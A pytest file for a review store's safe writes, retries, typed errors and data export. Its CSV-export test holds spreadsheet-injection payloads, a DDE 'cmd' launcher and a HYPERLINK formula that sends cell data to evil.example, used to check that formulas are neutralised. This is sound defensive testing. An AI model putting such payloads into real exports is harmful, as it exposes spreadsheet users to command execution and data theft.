"""Safe writes to the review store, on a real SQLite file (and on PostgreSQL when
``DECODEMO_TEST_PG_URL`` is set): a review sent again under its request id is stored once,
contended writes are retried and never fail with a raw database error, every failure is typed
and names no server path, notes are refused (not cut) over the limit, any upload name can be
stored, and the export neither loses masks nor carries spreadsheet formulas."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import threading
import uuid
import zipfile

import numpy as np
import pytest
from sqlalchemy import create_engine, inspect, text
from sqlalchemy import exc as sa_exc

from decodemo import errors
from decodemo.errors import (DecodemoError, NoteTooLongError, RequestIdConflictError, RequestIdError, ReviewError,
                             StoreBusyError, StoreError, StoreFileError, StoreUnavailableError)
from decodemo.service import Comparison, MethodOutcome
from decodemo.store import ReviewStore, records
from decodemo.store import store as store_module
from decodemo.store.db import current_revision, downgrade, head_revision, make_engine, upgrade
from decodemo.store.failures import scrub, transient_kind, typed_error
from decodemo.store.records import NOTE_MAX_CHARS, REQUEST_ID_MAX_CHARS, display_name
from decodemo.store.store import WRITE_ATTEMPTS, csv_cell, stored_suffix

PG_URL = os.environ.get("DECODEMO_TEST_PG_URL")
BACKENDS = ["sqlite"] + (["postgresql"] if PG_URL else [])
#: an absolute path in a message: a slash that does not continue a word (``files/inputs`` is relative)
ABSOLUTE = re.compile(r"(?<![\w.])/[\w.-]")


def _fresh_pg_url() -> str:
    """A new, empty database on the test server for one test."""
    from sqlalchemy.engine import make_url

    base = make_url(PG_URL)
    name = f"decodemo_test_{uuid.uuid4().hex[:10]}"
    admin = create_engine(base, isolation_level="AUTOCOMMIT")
    with admin.connect() as c:
        c.execute(text(f'CREATE DATABASE "{name}"'))
    admin.dispose()
    return base.set(database=name).render_as_string(hide_password=False)


def _url(backend: str, tmp_path) -> str:
    return f"sqlite:///{tmp_path / 'db.sqlite3'}" if backend == "sqlite" else _fresh_pg_url()


@pytest.fixture(params=BACKENDS)
def store(request, tmp_path):
    s = ReviewStore(_url(request.param, tmp_path), data_dir=tmp_path / "data")
    s.backend = request.param
    yield s
    s.close()


def _comparison(tmp_path, name: str, *, content: bytes | None = None, path=None, size=(8, 10),
                with_data: bool = False) -> Comparison:
    """A comparison as the service returns it (two methods); ``content`` defaults to one per name."""
    data = content if content is not None else name.encode()[:40] * 7
    if path is None:
        path = tmp_path / hashlib.sha256(name.encode()).hexdigest()[:16]
        path.write_bytes(data)
    outs = [MethodOutcome(method=m, model=f"texture/{m}", revision="bundled:abc", score=0.3, threshold=0.5,
                          default_threshold=0.5, decision="normal", percentile=30.0, nfe=3, latency_ms=1.0,
                          map=np.full(size, 0.2, np.float32), pixel_threshold=0.5, reference_scores=[0.1],
                          pixel_quantiles=None, reconstruction=None) for m in ("invad", "recon")]
    return Comparison(id=uuid.uuid4().hex, modality="image", domain="texture", name=name,
                      sha256=hashlib.sha256(data).hexdigest(), input=np.zeros((*size, 3), np.uint8), outcomes=outs,
                      seconds=0.1, path=str(path), data=data if with_data else None)


def _mask(rows: slice, cols: slice, size=(8, 10)) -> np.ndarray:
    m = np.zeros(size, bool)
    m[rows, cols] = True
    return m


def _run_threads(n: int, work) -> list[BaseException]:
    """Run ``work(k)`` in ``n`` threads started together; the exceptions they raised."""
    barrier, errors_seen = threading.Barrier(n), []

    def run(k: int) -> None:
        try:
            barrier.wait()
            work(k)
        except BaseException as exc:  # reported by the caller's assert
            errors_seen.append(exc)

    threads = [threading.Thread(target=run, args=(k,)) for k in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return errors_seen


# ---------------------------------------------------------------------- 1. idempotent review writes
def test_a_review_sent_again_with_its_request_id_is_stored_once(store, tmp_path):
    item = store.record(_comparison(tmp_path, "a.png"))
    rid = str(uuid.uuid4())
    mask = _mask(slice(2, 4), slice(3, 6))
    first = store.submit_review(item, "ana", "anomalous", methods_right=["recon", "invad"], mask=mask,
                                note="crack", request_id=rid)
    again = store.submit_review(item, "ana", "anomalous", methods_right=["invad", "recon"], mask=mask.copy(),
                                note="crack", request_id=rid)  # after a lost answer: the same request
    assert again == first and first["request_id"] == rid and first["version"] == 1
    assert len(store.history(item, "ana")) == 1
    assert len(list((store.data_dir / "files" / "masks").rglob("*.png"))) == 1
    # a later review (new id) is a new version; the old request sent again still answers version 1
    second = store.submit_review(item, "ana", "normal", request_id=str(uuid.uuid4()))
    assert second["version"] == 2 and store.submit_review(item, "ana", "anomalous", methods_right=["invad", "recon"],
                                                          mask=mask, note="crack", request_id=rid) == first
    # the id is the reviewer's own: another reviewer may use the same one
    ben = store.submit_review(item, "ben", "normal", request_id=rid)
    assert ben["id"] != first["id"] and ben["reviewer"] == "ben"
    # without a request id every call adds a version, as before
    store.submit_review(item, "cy", "normal")
    store.submit_review(item, "cy", "normal")
    assert [h["version"] for h in store.history(item, "cy")] == [1, 2]
    assert len(store.rows()["reviews"]) == 5


def test_a_request_id_reused_with_other_content_is_refused(store, tmp_path):
    a = store.record(_comparison(tmp_path, "a.png"))
    b = store.record(_comparison(tmp_path, "b.png"))
    rid = "req-1"
    same_mask = _mask(slice(1, 3), slice(1, 3))
    first = store.submit_review(a, "ana", "anomalous", mask=same_mask, note="x", request_id=rid)
    changes = [(a, dict(verdict="normal", mask=same_mask, note="x"), "verdict"),
               (a, dict(verdict="anomalous", mask=_mask(slice(0, 3), slice(1, 3)), note="x"), "mask"),
               (a, dict(verdict="anomalous", mask=None, note="x"), "mask"),
               (a, dict(verdict="anomalous", mask=same_mask, note="y"), "note"),
               (b, dict(verdict="anomalous", mask=same_mask, note="x"), "item")]
    for item_id, change, word in changes:
        refused = rf"'req-1' of ana already stored review {first['id']} .*another .*{word}"
        with pytest.raises(RequestIdConflictError, match=refused):
            store.submit_review(item_id, "ana", **change, request_id=rid)
    assert len(store.rows()["reviews"]) == 1  # nothing more stored
    assert len(list((store.data_dir / "files" / "masks").rglob("*.png"))) == 1  # and no stray mask file


@pytest.mark.parametrize("bad", ["", " ", "a b", "-starts-with-dash", "../x", "x" * (REQUEST_ID_MAX_CHARS + 1),
                                 "ü-umlaut", "a\nb", 42])
def test_a_request_id_that_is_not_a_short_token_is_refused(bad, tmp_path):
    s = ReviewStore(data_dir=tmp_path / "data")
    item = s.record(_comparison(tmp_path, "a.png"))
    with pytest.raises(RequestIdError, match=f"1 to {REQUEST_ID_MAX_CHARS}|is text"):
        s.submit_review(item, "ana", "normal", request_id=bad)
    assert s.rows()["reviews"] == []
    longest = "A" + "b" * (REQUEST_ID_MAX_CHARS - 1)
    assert s.submit_review(item, "ana", "normal", request_id=longest)["request_id"] == longest
    s.close()


def test_the_same_request_sent_by_eight_threads_at_once_is_stored_once(store, tmp_path):
    item = store.record(_comparison(tmp_path, "a.png"))
    rid, answers = str(uuid.uuid4()), []
    errs = _run_threads(8, lambda k: answers.append(
        store.submit_review(item, "ana", "anomalous", mask=_mask(slice(0, 2), slice(0, 2)), request_id=rid)))
    assert errs == [] and len(answers) == 8
    assert all(a == answers[0] for a in answers) and len(store.rows()["reviews"]) == 1


# ---------------------------------------------------------------------- 2. contended writes, typed errors
def test_many_threads_writing_to_one_item_lose_none(store, tmp_path):
    """16 threads x 25 reviews of one item (4 reviewers, so each (item, reviewer) has 4 writers at
    once; every 5th review is sent twice with its request id, as a client retrying would)."""
    threads, writes = 16, 25
    item = store.record(_comparison(tmp_path, "a.png"))
    answers: dict[str, list[dict]] = {}

    def work(k: int) -> None:
        for j in range(writes):
            rid = f"t{k}-w{j}"
            for _ in range(2 if j % 5 == 0 else 1):
                answers.setdefault(rid, []).append(store.submit_review(item, f"rev{k % 4}", "normal",
                                                                       note=rid, request_id=rid))

    errs = _run_threads(threads, work)
    print(f"\n[{store.backend}] {threads} threads x {writes} writes to one item: {len(errs)} errors, "
          f"{store.retries} retries")
    assert errs == []
    rows = store.rows()["reviews"]
    assert len(rows) == threads * writes and {r["note"] for r in rows} == set(answers)
    assert all(len({a["id"] for a in got}) == 1 for got in answers.values())  # a retry answers the first's row
    by_reviewer: dict[str, list[int]] = {}
    for r in rows:
        by_reviewer.setdefault(r["reviewer"], []).append(r["version"])
    assert all(sorted(v) == list(range(1, len(v) + 1)) for v in by_reviewer.values())  # no gap, no duplicate


def test_the_same_new_upload_stored_by_twelve_threads_at_once_is_one_item(store, tmp_path):
    """The item does not exist yet, so no lock can order the writers: the unique key on the
    content's hash decides, and the losers are retried and find the winner's item."""
    comps = [_comparison(tmp_path, "same.png") for _ in range(12)]
    ids: list[int] = []
    errs = _run_threads(12, lambda k: ids.append(store.record(comps[k])))
    print(f"\n[{store.backend}] 12 threads storing one new upload: {len(errs)} errors, {store.retries} retries")
    assert errs == [] and len(set(ids)) == 1
    assert store.counts()["items"] == 1 and len(store.rows()["runs"]) == 12 * 2


class _PgError(Exception):
    """A stand-in for a psycopg error: carries a SQLSTATE."""

    def __init__(self, message: str, sqlstate: str) -> None:
        super().__init__(message)
        self.sqlstate = sqlstate


def _db_error(cls, message: str, sqlstate: str | None = None, **kw):
    orig = _PgError(message, sqlstate) if sqlstate else Exception(message)
    return cls("INSERT INTO reviews (note) VALUES (%(note)s)", {"note": "secret"}, orig, **kw)


@pytest.mark.parametrize("error, kind", [
    (_db_error(sa_exc.OperationalError, "could not serialize access", "40001"), "serialisation failure"),
    (_db_error(sa_exc.OperationalError, "deadlock detected", "40P01"), "deadlock"),
    (_db_error(sa_exc.OperationalError, "lock not available", "55P03"), "lock held"),
    (_db_error(sa_exc.IntegrityError, "duplicate key value violates unique constraint", "23505"), "unique key"),
    (_db_error(sa_exc.OperationalError, "database is locked"), "locked database"),
    (_db_error(sa_exc.IntegrityError, "UNIQUE constraint failed: reviews.item_id"), "unique key"),
    (sa_exc.TimeoutError("QueuePool limit of size 5 overflow 10 reached"), "no free database connection"),
    (_db_error(sa_exc.IntegrityError, "insert violates foreign key constraint", "23503"), None),
    (_db_error(sa_exc.IntegrityError, "FOREIGN KEY constraint failed"), None),
    (_db_error(sa_exc.DataError, "value too long for type character varying(128)", "22001"), None),
    (_db_error(sa_exc.OperationalError, "connection refused", "08006"), None),
    (_db_error(sa_exc.OperationalError, "server closed the connection", None, connection_invalidated=True), None),
    (sa_exc.InvalidRequestError("a bug"), None),
])
def test_which_database_errors_are_retried(error, kind):
    got = transient_kind(error)
    assert (got is None) if kind is None else (kind in got)
    typed = typed_error(error, "store the review")
    assert isinstance(typed, StoreError) and not isinstance(typed, sa_exc.SQLAlchemyError)
    assert "INSERT" not in str(typed) and "secret" not in str(typed)  # no SQL, no parameters
    assert isinstance(typed, StoreBusyError) == (kind is not None)


def _failing(errors_to_raise: list, real):
    """``real``, after raising each of ``errors_to_raise`` once (one per call)."""
    calls = []

    def fn(s, *args, **kwargs):
        calls.append(1)
        if len(calls) <= len(errors_to_raise):
            raise errors_to_raise[len(calls) - 1]
        return real(s, *args, **kwargs)

    fn.calls = calls
    return fn


def test_serialisation_failures_and_deadlocks_are_retried_with_jittered_backoff(tmp_path, monkeypatch):
    s = ReviewStore(data_dir=tmp_path / "data")
    item = s.record(_comparison(tmp_path, "a.png"))
    waits = []
    monkeypatch.setattr(store_module.time, "sleep", waits.append)
    fn = _failing([_db_error(sa_exc.OperationalError, "could not serialize access", "40001"),
                   _db_error(sa_exc.OperationalError, "deadlock detected", "40P01"),
                   _db_error(sa_exc.IntegrityError, "duplicate key value", "23505")], records.add_review)
    monkeypatch.setattr(records, "add_review", fn)
    review = s.submit_review(item, "ana", "normal", request_id="r1")
    assert len(fn.calls) == 4 and s.retries == 3 and review["version"] == 1
    caps = [min(store_module.BACKOFF_MAX_S, store_module.BACKOFF_FIRST_S * 2 ** i) for i in range(3)]
    assert len(waits) == 3 and all(0 <= w <= c for w, c in zip(waits, caps))
    assert len(s.rows()["reviews"]) == 1
    s.close()


def test_the_backoff_is_jittered_and_bounded():
    for attempt in (1, 3, 9, 30):
        waits = [store_module._backoff_s(attempt) for _ in range(200)]
        cap = min(store_module.BACKOFF_MAX_S, store_module.BACKOFF_FIRST_S * 2 ** (attempt - 1))
        assert all(0 <= w <= cap for w in waits) and len(set(waits)) > 150  # spread, not in step


def test_a_write_that_always_loses_ends_in_a_typed_busy_error(tmp_path, monkeypatch):
    s = ReviewStore(data_dir=tmp_path / "data")
    item = s.record(_comparison(tmp_path, "a.png"))
    monkeypatch.setattr(store_module.time, "sleep", lambda _s: None)
    fn = _failing([_db_error(sa_exc.OperationalError, "deadlock detected", "40P01")] * 99, records.add_review)
    monkeypatch.setattr(records, "add_review", fn)
    with pytest.raises(StoreBusyError, match=rf"{WRITE_ATTEMPTS} times in a row \(last: a deadlock\).*Send it again"):
        s.submit_review(item, "ana", "normal")
    assert len(fn.calls) == WRITE_ATTEMPTS and s.rows()["reviews"] == []
    s.close()


def test_a_failure_a_retry_cannot_mend_is_typed_at_once(tmp_path, monkeypatch):
    s = ReviewStore(data_dir=tmp_path / "data")
    item = s.record(_comparison(tmp_path, "a.png"))
    fn = _failing([_db_error(sa_exc.IntegrityError, "insert violates foreign key constraint", "23503")],
                  records.add_review)
    monkeypatch.setattr(records, "add_review", fn)
    with pytest.raises(StoreError, match="breaks a rule of the stored data") as got:
        s.submit_review(item, "ana", "normal")
    assert len(fn.calls) == 1 and s.retries == 0
    assert not isinstance(got.value, (StoreBusyError, sa_exc.SQLAlchemyError)) and "INSERT" not in str(got.value)
    s.close()


def test_no_raw_database_error_leaves_the_store(store, tmp_path):
    item = store.record(_comparison(tmp_path, "a.png"))
    with store.engine.begin() as c:  # a database the code does not expect
        c.execute(text("DROP TABLE reviews"))
    calls = [lambda: store.current_reviews(), lambda: store.history(item), lambda: store.counts(),
             lambda: store.submit_review(item, "ana", "normal"), lambda: store.undo(item, "ana"),
             lambda: store.export(tmp_path / "out")]
    for call in calls:
        with pytest.raises(StoreError) as got:
            call()
        assert not isinstance(got.value, sa_exc.SQLAlchemyError) and isinstance(got.value, DecodemoError)
        message = str(got.value)
        assert "SELECT" not in message and "INSERT" not in message and not ABSOLUTE.search(message), message
    with pytest.raises(StoreError):  # a caller's own session too
        with store.session() as s:
            records.current_reviews(s)


def test_an_unreachable_database_is_a_typed_error_without_its_password(tmp_path):
    with pytest.raises(StoreUnavailableError, match="Check that the database server runs") as got:
        ReviewStore("postgresql+psycopg://ana:s3cret-pw@127.0.0.1:1/decodemo", data_dir=tmp_path / "data")
    assert "s3cret-pw" not in str(got.value)


def test_every_review_refusal_is_a_store_error_and_the_family_is_exported():
    assert issubclass(ReviewError, StoreError) and issubclass(NoteTooLongError, ReviewError)
    assert records.ReviewError is ReviewError  # one class, wherever it is imported from
    store_family = {n for n, v in vars(errors).items() if isinstance(v, type) and issubclass(v, StoreError)}
    assert len(store_family) == 8 and store_family <= set(errors.__all__)


# ---------------------------------------------------------------------- 3. export
def test_the_masks_archive_keeps_every_mask_when_reviewer_names_sanitise_alike(store, tmp_path):
    item = store.record(_comparison(tmp_path, "a.png"))
    masks = {}
    for reviewer in ("ana b", "ana_b"):
        for v, rows in enumerate((slice(0, 2), slice(3, 6))):
            r = store.submit_review(item, reviewer, "anomalous", mask=_mask(rows, slice(v, v + 4 + len(reviewer))))
            masks[r["id"]] = store.path(r["mask_path"]).read_bytes()
    paths = store.export(tmp_path / "out")
    with zipfile.ZipFile(paths["masks"]) as z:
        names = z.namelist()
        assert len(names) == len(set(names)) == 4
        got = {int(re.search(r"_review(\d+)\.png$", n).group(1)): z.read(n) for n in names}
    assert got == masks  # each review's own mask under its own name
    assert all(re.fullmatch(rf"item{item}_ana_b_v[12]_review\d+\.png", n) for n in names)


def test_csv_export_neutralises_formulas_and_json_keeps_the_exact_text(store, tmp_path):
    item = store.record(_comparison(tmp_path, "=cmd|' /C calc'!A0.png"))
    notes = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
             "plain", "a=b", ""]
    for i, note in enumerate(notes):
        store.submit_review(item, f"rev{i}", "normal", note=note)
    store.submit_review(item, "=evil()", "normal")
    store.apply_threshold("texture/invad", 0.25, old=-0.5, by="ana", reason="-done by hand")
    paths = store.export(tmp_path / "out")

    def csv_rows(table):
        with open(paths[table], newline="") as f:
            return list(csv.DictReader(f))

    reviews = csv_rows("reviews")
    by_reviewer = {r["reviewer"]: r for r in reviews}
    for i, note in enumerate(notes):
        danger = note[:1] in ("=", "+", "-", "@", "\t", "\r")
        assert by_reviewer[f"rev{i}"]["note"] == ("'" + note if danger else note)
    assert "'=evil()" in by_reviewer and csv_rows("items")[0]["name"].startswith("'=cmd")
    change = csv_rows("threshold_changes")[0]
    assert change["reason"] == "'-done by hand" and change["old_threshold"] == "-0.5"  # a number is not a formula
    data = json.loads(paths["json"].read_text())  # the JSON keeps the exact text
    assert [r["note"] for r in data["reviews"][: len(notes)]] == notes
    assert data["items"][0]["name"] == "=cmd|' /C calc'!A0.png"
    assert data["threshold_changes"][0]["old_threshold"] == -0.5


def test_csv_cell():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("\r\n") == "'\r\n" and csv_cell("x=1") == "x=1"
    assert csv_cell(-0.5) == -0.5 and csv_cell(None) is None and csv_cell(["-a"]) == '["-a"]'


# ---------------------------------------------------------------------- 4. notes
def test_a_note_over_the_limit_is_refused_not_cut(store, tmp_path):
    item = store.record(_comparison(tmp_path, "a.png"))
    longest = "n" * NOTE_MAX_CHARS
    assert store.submit_review(item, "ana", "normal", note=longest)["note"] == longest
    assert store.history(item, "ana")[0]["note"] == longest  # kept whole
    with pytest.raises(NoteTooLongError, match=r"has 10,001 characters; a review's note has at most 10,000"):
        store.submit_review(item, "ana", "anomalous", note=longest + "!")
    with pytest.raises(NoteTooLongError):  # the data function refuses it too
        with store.session() as s:
            records.add_review(s, item, "ben", "normal", note="x" * (NOTE_MAX_CHARS * 3))
    assert len(store.rows()["reviews"]) == 1


# ---------------------------------------------------------------------- 5. upload names
def test_an_upload_with_a_300_character_extension_is_stored(store, tmp_path):
    name = "photo." + "x" * 300
    comp = _comparison(tmp_path, name, path=tmp_path / "gone" / name, with_data=True)  # the bytes the service read
    item_id = store.record(comp)
    assert isinstance(item_id, int)
    item = store.item(item_id)
    stored = store.path(item.file_path)
    assert stored.read_bytes() == comp.data and stored.name == f"{comp.sha256}.bin"
    assert len(item.name) <= 255 and item.name.startswith("photo.xxx") and item.name.endswith("x" * 40)
    assert store.map_files(item_id)["invad"].is_file()
    # a real file with a long extension, copied from its path
    long_ext = tmp_path / ("clip." + "y" * 240)
    long_ext.write_bytes(b"other content")
    copied = store.item(store.record(_comparison(tmp_path, long_ext.name, content=b"other content", path=long_ext)))
    assert store.path(copied.file_path).read_bytes() == b"other content"


def test_the_stored_name_keeps_a_short_extension_and_the_display_name_fits():
    assert stored_suffix("a.PNG") == ".png" and stored_suffix("x/b.tar.gz") == ".gz" and stored_suffix("wave") == ".bin"
    assert stored_suffix("a." + "x" * 300) == ".bin" and stored_suffix("a.p g") == ".bin"
    assert display_name("a\x00b\nc.png") == "a b c.png" and display_name("") == "unnamed"
    long = display_name("s" * 300 + ".png")
    assert len(long) == 255 and long.endswith(".png") and "…" in long


def test_a_failed_upload_write_is_typed_and_names_no_server_path(tmp_path):
    s = ReviewStore(data_dir=tmp_path / "data")
    (s.data_dir / "files").mkdir(exist_ok=True)
    (s.data_dir / "files" / "inputs").write_text("a file where the folder must be")
    comp = _comparison(tmp_path, "a.png", with_data=True)
    with pytest.raises(StoreFileError) as got:
        s.record(comp)
    warning = f"The result could not be stored for review ({type(got.value).__name__}: {got.value})."  # as the app says
    assert f"files/inputs/{comp.sha256[:2]}/{comp.sha256}.bin" in warning
    assert str(tmp_path) not in warning and not ABSOLUTE.search(warning), warning
    s.close()


def test_scrub_takes_absolute_paths_out():
    assert scrub('connection to server on socket "/tmp/.s.PGSQL.5432" failed') == \
        'connection to server on socket "<path>" failed'
    assert scrub("files/inputs/ab.png and N/A") == "files/inputs/ab.png and N/A"
    assert scrub(r"cannot open C:\data\x.db") == "cannot open <path>"


# ---------------------------------------------------------------------- migration 0003
@pytest.mark.parametrize("backend", BACKENDS)
def test_migration_0003_adds_request_ids_and_keeps_reviews(tmp_path, backend):
    url = _url(backend, tmp_path)
    engine = make_engine(url)
    upgrade(engine, "0002")
    with engine.begin() as c:
        c.execute(text("INSERT INTO items (sha256, name, file_path, modality, domain, height, width, uploaded_at, "
                       "uploaded_by, anonymous, disagreement) VALUES ('ab', 'x.png', 'f', 'image', 'bottle', 2, 3, "
                       "'2026-01-01 00:00:00', 'ana', false, 0.5)"))
        c.execute(text("INSERT INTO reviews (item_id, reviewer, anonymous, version, verdict, methods_right, note, "
                       "created_at) VALUES (1, 'ana', false, 1, 'normal', '[]', 'kept', '2026-01-01 00:00:00')"))
    s = ReviewStore(url, data_dir=tmp_path / "d")
    assert current_revision(s.engine) == head_revision() == "0003"
    [old] = s.history(1)
    assert old["note"] == "kept" and old["request_id"] is None
    assert s.submit_review(1, "ana", "anomalous", request_id="r-1")["version"] == 2
    assert s.submit_review(1, "ana", "anomalous", request_id="r-1")["version"] == 2
    with s.engine.begin() as c:  # the constraint is the database's, not only the code's
        with pytest.raises(sa_exc.IntegrityError):
            with c.begin_nested():
                c.execute(text("INSERT INTO reviews (item_id, reviewer, anonymous, version, verdict, methods_right, "
                               "note, created_at, request_id) VALUES (1, 'ana', false, 9, 'normal', '[]', '', "
                               "'2026-01-01 00:00:00', 'r-1')"))
    s.close()
    downgrade(engine, "0002")  # and back, keeping the rows
    assert "request_id" not in {c["name"] for c in inspect(engine).get_columns("reviews")}
    with engine.connect() as c:
        assert c.execute(text("SELECT count(*) FROM reviews")).scalar() == 2
    upgrade(engine)
    assert current_revision(engine) == "0003"
    engine.dispose()
